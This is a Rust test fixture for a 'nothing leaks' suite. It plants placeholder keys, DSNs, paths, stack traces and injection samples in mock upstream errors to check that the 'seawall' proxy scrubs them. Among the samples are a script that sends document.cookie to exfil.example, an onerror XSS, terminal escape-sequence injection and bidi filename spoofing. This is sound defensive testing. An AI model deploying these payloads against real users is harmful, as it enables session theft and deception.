//! The planted set of the "nothing leaks" suite (`tests/leaks.rs`): secrets, paths,
//! DSNs, addresses, stack traces and escape sequences that the hostile upstreams put in
//! every error they answer, the distinctive pieces of each that must never reach a
//! client, and the error kinds the upstreams answer with.
//!
//! What seawall promises (docs/src/reference/errors.md, DESIGN §5) decides what is planted where:
//! upstream errors with a client-fault code (-32600, -32601, -32602, -32002, -32800,
//! -32042, -32021) and `isError` texts are passed on *scrubbed*, so they carry only what
//! the sanitiser promises to remove ([`PROMISED`]); every other failure is *replaced* by
//! a message of seawall's own, so it may carry anything ([`UNPROMISED`] as well: SQL and
//! HTML, which the sanitiser does not promise to remove from text it quotes).

use serde_json::{Value, json};

/// One planted item: a label, the text planted, and the pieces of it that must not
/// reach a client (each also looked for in its JSON-escaped form).
pub struct Planted {
    pub label: &'static str,
    pub text: &'static str,
    pub needles: &'static [&'static str],
}

macro_rules! planted {
    ($($label:literal => $text:expr, [$($needle:expr),+ $(,)?];)+) => {
        &[$(Planted { label: $label, text: $text, needles: &[$($needle),+] }),+]
    };
}

/// What the sanitiser promises to remove from any text it quotes.
pub const PROMISED: &[Planted] = planted! {
    "openai key" => "quota exceeded for sk-live-4f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c", ["sk-live-4f9a", "4f9a8b7c6d5e4f3a2b1c"];
    "stripe key" => "charge refused (sk_live_51H8xYzAbCdEfGhIjKlMnOp)", ["sk_live_51H8", "xYzAbCdEfGhIjKlMnOp"];
    "github token" => "clone failed with ghp_R2d2C3poX9y8Z7w6V5u4T3s2R1q0P9o8N7m6", ["ghp_R2d2", "C3poX9y8Z7w6V5u4"];
    "slack token" => "post failed: xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx", ["xoxb-1234", "AbCdEfGhIjKlMnOp"];
    "aws key id" => "s3 denied for AKIAIOSFODNN7EXAMPLE", ["AKIAIOSFODNN7EXAMPLE", "IOSFODNN7"];
    "aws secret" => "aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", ["wJalrXUtnFEMI", "bPxRfiCY"];
    "bearer header" => "Authorization: Bearer Zm9vYmFyYmF6LWJlYXJlci10b2tlbi00Mg", ["Zm9vYmFyYmF6LWJl", "LWJlYXJlci10b2tl"];
    "bearer prose" => "retrying with Bearer tok_9XqLm2Rv7Ws4Yt8Uz", ["tok_9XqLm2Rv", "9XqLm2Rv7Ws4"];
    "basic header" => "Authorization: Basic YWRtaW46aHVudGVyMg==", ["YWRtaW46aHVudGVyMg"];
    "jwt" => "token eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJkZXBsb3kiLCJyb2xlIjoiYWRtaW4ifQ.c2lnbmF0dXJlLWxlYWtz rejected",
        ["eyJhbGciOiJIUzI1NiJ9", "eyJzdWIiOiJkZXBsb3ki", "c2lnbmF0dXJlLWxlYWtz"];
    "cookie" => "Cookie: session=c00kie-S3ss10n-Value; csrftoken=Csrf-T0ken-77", ["c00kie-S3ss10n", "Csrf-T0ken-77"];
    "password field" => "login failed: password=Hunter2-Login-Pw", ["Hunter2-Login-Pw"];
    "dsn url" => "postgres://app_user:hunter2@db.internal:5432/orders", ["hunter2", "app_user", "db.internal"];
    "dsn without scheme" => "FATAL: could not connect as svc_billing:Pa55w0rd-Billing@10.20.30.40:5432",
        ["Pa55w0rd-Billing", "svc_billing", "10.20.30.40"];
    "dsn keywords" => "host=pg-primary.corp port=5432 user=report password=R3p0rtPw9 dbname=ledger", ["R3p0rtPw9", "pg-primary"];
    "mysql url" => "mysql://root:Tr0ub4dor-3@10.1.2.3:3306/app", ["Tr0ub4dor", "10.1.2.3"];
    "redis url" => "redis://:r3dis-pass@cache.internal:6379/0", ["r3dis-pass", "cache.internal"];
    "url with key" => "GET https://api.partner.example/v1/charge?api_key=Q1w2E3r4T5y6 failed", ["Q1w2E3r4T5y6", "api.partner.example"];
    "pem key" => "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7leaksPEMbody0123456789\n-----END RSA PRIVATE KEY-----",
        ["MIIEpAIBAAKCAQEA7leaks", "PRIVATE KEY"];
    "ssh key path" => "open /home/deploy/.ssh/id_rsa: permission denied", ["/home/deploy", "id_rsa"];
    "config path" => "cannot read /srv/app/config/secrets.yaml", ["/srv/app", "secrets.yaml"];
    "windows path" => r"C:\Users\Administrator\AppData\Roaming\corp\vault.kdbx is locked", ["Administrator", "AppData", "vault.kdbx"];
    "unc path" => r"share \\fileserver01\finance\payroll.xlsx is offline", ["fileserver01", "payroll.xlsx"];
    "cluster host" => "upstream redis-master.prod.svc.cluster.local:6379 unreachable", ["redis-master", "svc.cluster.local"];
    "ec2 host" => "timeout from ip-172-31-4-17.eu-west-1.compute.internal", ["ip-172-31-4-17", "compute.internal"];
    "private ip" => "connect 192.168.13.37:8443 refused", ["192.168.13.37"];
    "ipv6" => "no route to [fd00:dead:beef::1234]:9000", ["fd00:dead:beef"];
    "python trace" => "Traceback (most recent call last):\n  File \"/srv/app/handlers/tools.py\", line 42, in call_tool\n    rows = db.query(sql)\nValueError: lookup failed",
        ["Traceback", "handlers/tools.py", "call_tool", "db.query"];
    "java trace" => "java.sql.SQLException: access denied\n\tat com.example.billing.Ledger.post(Ledger.java:118)\n\tat com.example.billing.Main.main(Main.java:7)",
        ["com.example.billing", "Ledger.java"];
    "rust panic" => "thread 'tokio-runtime-worker' panicked at src/db/pool.rs:88:14:\npool exhausted\nstack backtrace:\n   0: rust_begin_unwind\n   1: billing_core::db::pool::checkout\n             at ./src/db/pool.rs:88:14",
        ["panicked at", "src/db/pool.rs", "rust_begin_unwind", "billing_core"];
    "node trace" => "TypeError: cannot read properties of undefined\n    at Object.handler (/srv/app/index.js:10:5)\n    at Module._compile (node:internal/modules/cjs/loader:1105:14)",
        ["Module._compile", "index.js", "node:internal"];
    "go trace" => "panic: runtime error: index out of range\n\ngoroutine 17 [running]:\nmain.handle(0xc000010000)\n\t/home/deploy/go/src/billing/main.go:12 +0x1d",
        ["goroutine 17", "main.go", "0xc000010000"];
    "ansi" => "\u{1b}[31mFATAL\u{1b}[0m \u{1b}]0;owned-title\u{7} \u{1b}]8;;http://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\ \u{1b}[2J",
        ["\u{1b}", "[31m", "owned-title", "]8;;", "evil.example", "[2J"];
    "bidi and zero width" => "file \u{202e}gpj.exe\u{200b} \u{7f}\u{0}", ["\u{202e}", "\u{200b}", "\u{7f}", "\u{0}"];
};

/// Planted only where seawall replaces the upstream's text: the sanitiser does not
/// promise to remove SQL or markup from text it quotes (it escapes and caps them).
pub const UNPROMISED: &[Planted] = planted! {
    "sql" => "ERROR: syntax error in SELECT card_number, cvv FROM payments WHERE customer_id = 4711", ["card_number", "FROM payments"];
    "html" => "<html><body><script>fetch('https://exfil.example/?c='+document.cookie)</script><img src=x onerror=alert(1)></body></html>",
        ["<script", "onerror=", "exfil.example", "document.cookie"];
};

/// Every planted item.
pub fn all() -> impl Iterator<Item = &'static Planted> {
    PROMISED.iter().chain(UNPROMISED)
}

/// The upstream error codes whose message and `data` seawall passes on scrubbed.
pub const PASSED_ON: &[i64] = &[-32600, -32601, -32602, -32002, -32800, -32042, -32021];

/// Every JSON-RPC error code the upstreams answer with: the spec's, the server-error
/// band, MCP's own, and codes nobody defined.
pub const CODES: &[i64] = &[
    -32700, -32600, -32601, -32602, -32603, -32000, -32001, -32002, -32010, -32020, -32021, -32032, -32042, -32050,
    -32099, -32800, -31999, -1, 0, 42,
];

/// How an upstream fails one request.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// A JSON-RPC error with this code.
    Code(i64),
    /// `"error": "<text>"`.
    ErrorString,
    /// `"error": {"code": -32602, "message": {<object>}}`.
    MessageObject,
    /// `"error": {"code": "-32602", ...}`.
    CodeString,
    /// `"error": {"message": ..., "data": ...}` without a code.
    NoCode,
    /// `"code": -32602.5`.
    FractionalCode,
    /// A tool result `isError: true` whose text carries the secrets.
    ToolText,
    /// A tool result `isError: true` with secrets in several text items.
    ToolManyTexts,
    /// A tool result `isError: true` with secrets in `structuredContent`.
    ToolStructured,
    /// A tool result `isError: true` with secrets in an embedded resource's text.
    ToolResource,
    /// HTTP: this status with a body full of secrets (stdio: a -32603 error).
    Status(u16),
    /// HTTP 401 with the secrets in `WWW-Authenticate` and the body.
    Unauthorized,
    /// HTTP 200 `application/json` whose body is not JSON (stdio: a line that is not JSON).
    Garbage,
    /// HTTP 200 `text/html` (stdio: a JSON line that is no JSON-RPC message).
    WrongType,
    /// An answer under an id nobody asked for, with the secrets, before the real one.
    UnknownId,
    /// SSE: an event whose data is not JSON, then the error (others: the error).
    SseGarbage,
    /// SSE: events with the secrets, then the stream closes unanswered (others: error).
    SseClose,
}

impl Kind {
    /// Every kind, in a fixed order.
    pub fn all() -> Vec<Kind> {
        let mut kinds: Vec<Kind> = CODES.iter().map(|&c| Kind::Code(c)).collect();
        kinds.extend([
            Kind::ErrorString,
            Kind::MessageObject,
            Kind::CodeString,
            Kind::NoCode,
            Kind::FractionalCode,
            Kind::ToolText,
            Kind::ToolManyTexts,
            Kind::ToolStructured,
            Kind::ToolResource,
            Kind::Status(400),
            Kind::Status(404),
            Kind::Status(500),
            Kind::Status(502),
            Kind::Status(503),
            Kind::Unauthorized,
            Kind::Garbage,
            Kind::WrongType,
            Kind::UnknownId,
            Kind::SseGarbage,
            Kind::SseClose,
        ]);
        kinds
    }

    /// Its name: a tool name, a prompt name, a URI's host and a cursor (`e_32602`, `e42`,
    /// `tool_text`, `http_503`, ...).
    pub fn name(self) -> String {
        match self {
            Kind::Code(c) if c < 0 => format!("e_{}", -c),
            Kind::Code(c) => format!("e{c}"),
            Kind::ErrorString => "error_string".into(),
            Kind::MessageObject => "message_object".into(),
            Kind::CodeString => "code_string".into(),
            Kind::NoCode => "no_code".into(),
            Kind::FractionalCode => "fractional_code".into(),
            Kind::ToolText => "tool_text".into(),
            Kind::ToolManyTexts => "tool_many_texts".into(),
            Kind::ToolStructured => "tool_structured".into(),
            Kind::ToolResource => "tool_resource".into(),
            Kind::Status(s) => format!("http_{s}"),
            Kind::Unauthorized => "http_401".into(),
            Kind::Garbage => "garbage".into(),
            Kind::WrongType => "wrong_type".into(),
            Kind::UnknownId => "unknown_id".into(),
            Kind::SseGarbage => "sse_garbage".into(),
            Kind::SseClose => "sse_close".into(),
        }
    }

    pub fn from_name(name: &str) -> Option<Kind> {
        Kind::all().into_iter().find(|k| k.name() == name)
    }

    /// Whether it is a tool result rather than a failure (meaningful for `tools/call`).
    pub fn is_tool_result(self) -> bool {
        matches!(self, Kind::ToolText | Kind::ToolManyTexts | Kind::ToolStructured | Kind::ToolResource)
    }

    /// Whether seawall passes its text on scrubbed (rather than replacing it).
    pub fn passed_on(self) -> bool {
        match self {
            Kind::Code(c) => PASSED_ON.contains(&c),
            // A modern upstream's 400/404 with a JSON-RPC body is that error.
            Kind::Status(400 | 404) => true,
            k => k.is_tool_result(),
        }
    }
}

/// The methods whose failures rotate the planted texts differently.
pub const METHODS: &[&str] =
    &["tools/call", "prompts/get", "resources/read", "tools/list", "prompts/list", "resources/list"];

/// The rotation of the planted texts for `method` failing as `kind`: fixed, so that a
/// run is repeatable, and different across methods and kinds, so that every text leads
/// some messages (nothing after a message's first 256 bytes is ever looked at).
pub fn turn(method: &str, kind: Kind) -> usize {
    let m = METHODS.iter().position(|x| *x == method).unwrap_or(0);
    let k = Kind::all().iter().position(|x| *x == kind).unwrap_or(0);
    m * 7 + k
}

/// The planted texts for a kind: the promised ones, and the unpromised ones where
/// seawall replaces the text. `turn` rotates them so that each leads some message.
pub fn texts(kind: Kind, turn: usize) -> Vec<&'static str> {
    let mut texts: Vec<&'static str> = PROMISED.iter().map(|p| p.text).collect();
    if !kind.passed_on() {
        texts.extend(UNPROMISED.iter().map(|p| p.text));
    }
    let n = texts.len();
    texts.rotate_left(turn % n);
    texts
}

/// One message carrying every text of `texts`.
pub fn message(texts: &[&str]) -> String {
    texts.join("\n")
}

/// A `data` value with the texts in strings, in a nested object and in an array.
pub fn data(texts: &[&str]) -> Value {
    let fields: serde_json::Map<String, Value> =
        texts.iter().enumerate().map(|(i, t)| (format!("field{i}"), json!(t))).collect();
    json!({
        "detail": texts.first().copied().unwrap_or_default(),
        "fields": fields,
        "nested": {"deeper": {"list": texts.iter().rev().take(3).collect::<Vec<_>>()}},
        "count": texts.len(),
    })
}

/// The JSON-RPC error object for `code`, with the texts in `message` and `data` (a
/// -32002 names a URI the client did not ask for; a -32042 and a -32021 carry the
/// texts in the members seawall keeps of them).
pub fn error_object(code: i64, texts: &[&str]) -> Value {
    let mut data = data(texts);
    match code {
        -32002 => data["uri"] = json!("file:///home/deploy/.ssh/id_rsa?token=ghp_R2d2C3poX9y8Z7w6V5u4T3s2R1q0P9o8N7m6"),
        -32042 => {
            data["elicitations"] = json!([
                {"mode": "url", "elicitationId": "elicit-1", "url": "https://auth.example.com/connect?state=ok",
                 "message": message(texts), "debug": data["fields"].clone()},
                {"mode": "form", "elicitationId": "elicit-2", "message": message(texts)},
            ]);
        }
        -32021 => data["requiredCapabilities"] = json!({"sampling": {"why": message(texts)}}),
        _ => {}
    }
    json!({"code": code, "message": message(texts), "data": data})
}

/// The `error` member (or whole malformed error) an upstream answers for `kind`.
pub fn error_for(kind: Kind, turn: usize) -> Value {
    let texts = texts(kind, turn);
    match kind {
        Kind::Code(code) => error_object(code, &texts),
        Kind::ErrorString => json!(message(&texts)),
        Kind::MessageObject => json!({"code": -32602, "message": data(&texts), "data": data(&texts)}),
        Kind::CodeString => json!({"code": "-32602", "message": message(&texts), "data": data(&texts)}),
        Kind::NoCode => json!({"message": message(&texts), "data": data(&texts)}),
        Kind::FractionalCode => json!({"code": -32602.5, "message": message(&texts), "data": data(&texts)}),
        Kind::Status(400 | 404) => error_object(-32602, &texts),
        _ => error_object(-32603, &texts),
    }
}

/// The `isError` tool result for a tool-result kind.
pub fn tool_result(kind: Kind, turn: usize) -> Value {
    let texts = texts(kind, turn);
    match kind {
        Kind::ToolManyTexts => json!({
            "content": texts.iter().map(|t| json!({"type": "text", "text": t})).collect::<Vec<_>>(),
            "isError": true,
        }),
        Kind::ToolStructured => json!({
            "content": [{"type": "text", "text": "lookup failed"}],
            "structuredContent": data(&texts),
            "isError": true,
        }),
        Kind::ToolResource => json!({
            "content": [
                {"type": "text", "text": "lookup failed; details attached"},
                {"type": "resource", "resource": {"uri": "leak://details", "mimeType": "text/plain", "text": message(&texts)}},
            ],
            "isError": true,
        }),
        _ => json!({"content": [{"type": "text", "text": message(&texts)}], "isError": true}),
    }
}

/// The plan the stdio upstream (`tests/it/support/leaky_stdio.py`) reads: for each kind
/// and method (by its index in [`METHODS`]), what it answers.
pub fn plan() -> Value {
    let kinds: serde_json::Map<String, Value> = Kind::all()
        .into_iter()
        .map(|kind| {
            let per_turn: Vec<Value> = METHODS
                .iter()
                .map(|method| {
                    let turn = turn(method, kind);
                    let texts = texts(kind, turn);
                    json!({
                        "error": error_for(kind, turn),
                        "result": kind.is_tool_result().then(|| tool_result(kind, turn)),
                        "noise": message(&texts),
                    })
                })
                .collect();
            (
                kind.name(),
                json!({"tool_result": kind.is_tool_result(), "garbage": kind == Kind::Garbage,
                "wrong_type": kind == Kind::WrongType, "unknown_id": kind == Kind::UnknownId, "turns": per_turn}),
            )
        })
        .collect();
    let all: Vec<&str> = all().map(|p| p.text).collect();
    json!({"kinds": kinds, "methods": METHODS, "last_words": message(&all)})
}

/// Where `needle` (or its JSON-escaped form) occurs in `bytes`.
pub fn find(bytes: &[u8], needle: &str) -> Option<usize> {
    find_in(&String::from_utf8_lossy(bytes), needle)
}

/// [`find`] in text already decoded (the standard library's search, fast in any build).
fn find_in(text: &str, needle: &str) -> Option<usize> {
    let escaped = serde_json::to_string(needle).unwrap_or_default();
    let escaped = escaped.trim_matches('"');
    [needle, escaped].into_iter().filter(|n| !n.is_empty()).find_map(|n| text.find(n))
}

/// Every planted needle found in `bytes`, as `(label, needle, context)`.
pub fn leaks_in(bytes: &[u8]) -> Vec<(&'static str, &'static str, String)> {
    let text = String::from_utf8_lossy(bytes);
    let mut found = Vec::new();
    for p in all() {
        for needle in p.needles {
            if let Some(at) = find_in(&text, needle) {
                let from = text.floor_char_boundary(at.saturating_sub(60));
                let to = text.ceil_char_boundary((at + needle.len() + 60).min(text.len()));
                found.push((p.label, *needle, text[from..to].to_owned()));
            }
        }
    }
    found
}
